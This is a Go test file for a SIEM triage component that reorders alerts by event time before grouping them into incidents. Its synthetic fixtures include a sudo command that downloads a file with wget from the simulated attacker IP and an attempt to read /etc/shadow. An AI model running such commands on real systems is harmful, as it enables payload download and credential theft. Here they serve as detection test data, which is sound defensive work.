package triage

import (
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/vigil-siem/vigil/event"
	"github.com/vigil-siem/vigil/rules"
)

// orderSensitiveAlerts returns alerts whose grouping depends on the order
// they arrive in without the Reorder: several rules about one source
// (the first to arrive names the incident), alerts of one host 25 and 50
// minutes apart (with a 30-minute window, 0-25-50 is one incident, 0-50
// then 25 two), a storm cut by MaxSpan, and a suppression re-emission.
func orderSensitiveAlerts() []rules.Alert {
	log := &authLog{host: "bastion-01"}
	var out []rules.Alert

	// One source: brute force, then a login and sudo.
	storm := bruteForceStorm(log, "203.0.113.45", t0, 3)
	out = append(out, storm...)
	out = append(out, withSuppressed(storm[0], 4))
	out = append(out, ruleSudoAfter.alert("source.ip",
		log.sshd(t0.Add(50*time.Second), "success", "root", "203.0.113.45"),
		log.sudo(t0.Add(55*time.Second), "root", "/usr/bin/wget http://203.0.113.45/x", true)))
	out = append(out, ruleBFSuccess.alert("source.ip",
		log.sshd(t0.Add(40*time.Second), "failure", "root", "203.0.113.45"),
		log.sshd(t0.Add(50*time.Second), "success", "root", "203.0.113.45")))

	// One user on one host, at 0, 25 and 50 minutes.
	web := &authLog{host: "web-01"}
	for _, m := range []int{0, 25, 50} {
		at := t0.Add(time.Hour + time.Duration(m)*time.Minute)
		out = append(out, ruleNotSudoer.alert("user.name", web.sudo(at, "mallory", "/bin/cat /etc/shadow", false)))
	}

	// A storm with a 10-minute MaxSpan (see orderTestConfig): where it is
	// cut depends on which alert opened the incident.
	out = append(out, bruteForceStorm(log, "198.51.100.7", t0.Add(3*time.Hour), 50)...)

	// Two alerts at the same instant: the alert id breaks the tie.
	lab := &authLog{host: "lab-01"}
	at := t0.Add(5 * time.Hour)
	out = append(out, ruleLogin.alert("user.name", lab.sshd(at, "success", "carol", "10.0.0.5")))
	out = append(out, ruleRootLogin.alert("user.name", lab.sshd(at, "success", "carol", "10.0.0.6")))
	return out
}

var orderTestConfig = GrouperConfig{Window: 30 * time.Minute, MaxSpan: 10 * time.Minute}

// incidentsOf groups alerts in the given order and describes every
// incident built: id, counts, span and alert ids, sorted.
func incidentsOf(alerts []rules.Alert) string {
	g := NewGrouper(orderTestConfig)
	final := map[string]*Incident{}
	for _, a := range alerts {
		if inc, _ := g.Add(a); inc != nil {
			final[inc.ID] = inc
		}
	}
	var lines []string
	for id, inc := range final {
		ids := slices.Sorted(slices.Values(inc.AlertIDs))
		lines = append(lines, fmt.Sprintf("%s %s alerts=%d suppressed=%d %s..%s %v", id, inc.Entity, inc.AlertCount,
			inc.SuppressedCount, event.FormatTime(inc.FirstSeen), event.FormatTime(inc.LastSeen), ids))
	}
	slices.Sort(lines)
	return strings.Join(lines, "\n")
}

// TestReorderMakesIncidentsIndependentOfArrivalOrder: the same alerts,
// arriving in several shuffled orders within the Reorder's delay, give
// the same incidents with the same ids and alert sets. Without the
// Reorder they do not (the alerts are chosen so), which shows the test
// can fail.
func TestReorderMakesIncidentsIndependentOfArrivalOrder(t *testing.T) {
	alerts := orderSensitiveAlerts()
	const delay = 2 * time.Second
	start := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	var want string
	unordered := map[string]bool{}
	for seed := range uint64(12) {
		order := slices.Clone(alerts)
		rng := rand.New(rand.NewPCG(seed, 42))
		rng.Shuffle(len(order), func(i, j int) { order[i], order[j] = order[j], order[i] })
		unordered[incidentsOf(order)] = true

		// They arrive spread over just under the delay: every alert is
		// released at the end, in order.
		r := NewReorder[int](ReorderConfig{Delay: delay})
		var released []rules.Alert
		step := delay / time.Duration(len(order)+1)
		now := start
		for i, a := range order {
			now = start.Add(time.Duration(i) * step)
			for _, h := range r.Push(a, i, now) {
				released = append(released, h.Alert)
			}
		}
		for _, h := range r.Release(now.Add(delay)) {
			released = append(released, h.Alert)
		}
		if len(released) != len(alerts) || r.Len() != 0 {
			t.Fatalf("order %d: %d alerts released, %d held; want %d, 0", seed, len(released), r.Len(), len(alerts))
		}
		got := incidentsOf(released)
		if seed == 0 {
			want = got
			continue
		}
		if got != want {
			t.Fatalf("order %d gives other incidents:\n%s\nwant (order 0):\n%s", seed, got, want)
		}
	}
	if len(unordered) < 2 {
		t.Fatal("without the Reorder every order gave the same incidents: the alerts do not test the ordering")
	}
	if n := strings.Count(want, "\n") + 1; n < 5 {
		t.Fatalf("only %d incidents:\n%s", n, want)
	}
}

// TestReorderRelease pins when alerts leave the buffer (a fake clock).
func TestReorderRelease(t *testing.T) {
	const delay = 2 * time.Second
	base := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	at := func(d time.Duration) time.Time { return base.Add(d) }
	mk := func(id string, eventSec int) rules.Alert {
		ts := t0.Add(time.Duration(eventSec) * time.Second)
		return rules.Alert{Timestamp: ts, Vigil: rules.AlertVigil{Alert: rules.AlertDetail{ID: id, LastSeen: ts}}}
	}
	// step is, at a time, one alert arriving (Push) or none (Release),
	// and the alert ids that leave, in order.
	type step struct {
		now  time.Duration
		push *rules.Alert
		want string
	}
	push := func(now time.Duration, id string, eventSec int, want string) step {
		a := mk(id, eventSec)
		return step{now, &a, want}
	}
	tests := []struct {
		name    string
		maxHeld int
		steps   []step
	}{
		{"held for exactly the delay", 0, []step{
			push(0, "a", 5, ""), {delay - time.Nanosecond, nil, ""}, {delay, nil, "a"}}},
		{"an earlier alert arriving later goes first", 0, []step{
			push(0, "b", 10, ""), push(time.Second, "a", 5, ""), {delay, nil, "a b"}}},
		{"a later alert arriving later waits its own delay", 0, []step{
			push(0, "a", 5, ""), push(time.Second, "b", 10, ""), {delay, nil, "a"},
			{delay + time.Second - time.Nanosecond, nil, ""}, {delay + time.Second, nil, "b"}}},
		{"an alert later than the delay is released late, alone", 0, []step{
			push(0, "b", 10, ""), {delay, nil, "b"}, push(delay+time.Second, "a", 5, ""), {2*delay + time.Second, nil, "a"}}},
		{"same event time: by alert id", 0, []step{
			push(0, "b", 5, ""), push(0, "a", 5, ""), push(0, "c", 5, ""), {delay, nil, "a b c"}}},
		{"past MaxHeld the first in order leave early", 2, []step{
			push(0, "c", 7, ""), push(0, "a", 5, ""), push(0, "b", 6, "a"), {delay, nil, "b c"}}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := NewReorder[string](ReorderConfig{Delay: delay, MaxHeld: tc.maxHeld})
			for _, st := range tc.steps {
				var out []Held[string]
				if st.push != nil {
					out = r.Push(*st.push, st.push.Vigil.Alert.ID, at(st.now))
				} else {
					out = r.Release(at(st.now))
				}
				var got []string
				for _, h := range out {
					if h.Value != h.Alert.Vigil.Alert.ID {
						t.Fatalf("value %q released with alert %s", h.Value, h.Alert.Vigil.Alert.ID)
					}
					got = append(got, h.Value)
				}
				if s := strings.Join(got, " "); s != st.want {
					t.Errorf("at %v: released %q, want %q", st.now, s, st.want)
				}
			}
			if r.Len() != 0 {
				t.Errorf("%d alerts still held", r.Len())
			}
		})
	}
}

// TestReorderValuesAndDrain: Values lists what is held (the triage stage
// keeps its commit below those records), Drain releases all in order.
func TestReorderValuesAndDrain(t *testing.T) {
	r := NewReorder[int64](ReorderConfig{})
	now := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	alerts := bruteForceStorm(&authLog{host: "h"}, "203.0.113.9", t0, 5)
	for i := len(alerts) - 1; i >= 0; i-- {
		r.Push(alerts[i], int64(100+i), now)
	}
	held := slices.Sorted(r.Values())
	if !slices.Equal(held, []int64{100, 101, 102, 103, 104}) {
		t.Fatalf("held values %v", held)
	}
	var got []int64
	for _, h := range r.Drain() {
		got = append(got, h.Value)
	}
	if !slices.Equal(got, []int64{100, 101, 102, 103, 104}) || r.Len() != 0 {
		t.Fatalf("drained %v (in event-time order 100..104), %d left", got, r.Len())
	}
}

// BenchmarkReorder pushes alerts arriving 1 ms apart, slightly out of
// order, through a 2 s delay: the buffer holds about 2,000 alerts.
func BenchmarkReorder(b *testing.B) {
	alerts := bruteForceStorm(&authLog{host: "h"}, "203.0.113.9", t0, 1000)
	rng := rand.New(rand.NewPCG(1, 2))
	for i := range alerts {
		if j := i + rng.IntN(5); j < len(alerts) {
			alerts[i], alerts[j] = alerts[j], alerts[i]
		}
	}
	r := NewReorder[int](ReorderConfig{Delay: 2 * time.Second})
	now := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	n := 0
	b.ReportAllocs()
	for b.Loop() {
		for i := range alerts {
			now = now.Add(time.Millisecond)
			n += len(r.Push(alerts[i], i, now))
		}
	}
	n += len(r.Drain())
	b.ReportMetric(float64(n)/b.Elapsed().Seconds(), "alerts/s")
}

// TestReorderNegativeDelayHoldsNothing: reorder_delay < 0 turns the
// reordering off: every alert leaves as it arrives.
func TestReorderNegativeDelayHoldsNothing(t *testing.T) {
	r := NewReorder[int](ReorderConfig{Delay: -1})
	now := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	alerts := bruteForceStorm(&authLog{host: "h"}, "203.0.113.9", t0, 3)
	for _, i := range []int{2, 0, 1} {
		out := r.Push(alerts[i], i, now)
		if len(out) != 1 || out[0].Value != i {
			t.Fatalf("pushed alert %d, released %v", i, out)
		}
	}
}
